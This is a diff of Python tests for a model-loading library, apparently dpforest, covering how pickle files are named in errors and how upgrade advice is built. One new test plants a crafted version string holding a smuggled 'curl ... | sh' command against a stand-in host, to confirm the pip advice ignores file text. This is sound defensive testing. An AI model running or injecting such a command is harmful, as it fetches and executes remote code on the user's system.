@@ -542,12 +542,16 @@ def test_a_pickle_given_to_load_model_is_named_as_one(tmp_path, fitted):
     joblib.dump(m, tmp_path / "m.joblib")
     (tmp_path / "m.pkl").write_bytes(pickle.dumps(m))
     for name in ("m.joblib", "m.pkl"):
-        with pytest.raises(ModelFileError, match=r"is a pickle, not a dpforest model file: load "
-                                                 r"it with joblib\.load or pickle\.load"):
+        with pytest.raises(ModelFileError, match=r"is named as a pickle, not a dpforest model "
+                                                 r"file: load it with joblib\.load or "
+                                                 r"pickle\.load"):
             load_model(tmp_path / name)
-    (tmp_path / "d.csv").write_text("a,b\n1,2\n")
-    with pytest.raises(ModelFileError, match=r"not a JSON object; is it a data file"):
-        load_model(tmp_path / "d.csv")
+    # told by the name, never by the bytes: a data file whose first byte is pickle's mark
+    # (cp1252's euro sign) gets the one message every data file gets
+    for data in (b"a,b\n1,2\n", "\u20acuro,1\n".encode("cp1252"), pickle.dumps(m)):
+        (tmp_path / "d.csv").write_bytes(data)
+        with pytest.raises(ModelFileError, match=r"not a JSON object; is it a data file"):
+            load_model(tmp_path / "d.csv")
 
 
 def test_the_fitting_version_survives_saving_again(tmp_path, fitted):
@@ -592,6 +596,15 @@ def test_a_file_of_a_later_version_says_to_upgrade_not_to_refit(tmp_path, fitted
     text = str(rec[0].message)
     assert f"install dpforest {later} or later to serve it (pip install 'dpforest>={later}')" in text
     assert "refit it with" not in text
+    # the advice is built from the version's numbers, never the file's text (a crafted
+    # version cannot put a shell command into the pip line)
+
+    def crafted(doc):
+        doc["payload"]["dpforest_version"] = f"{later}' && curl -s http://x.example | sh && echo '"
+    _rewrite(path, crafted, True)
+    with pytest.warns(InconsistentVersionWarning) as rec:
+        load_model(path)
+    assert f"(pip install 'dpforest>={later}')" in str(rec[0].message)
 
 
 def test_refused_file_of_another_version_still_refused_without_warning(tmp_path, fitted):
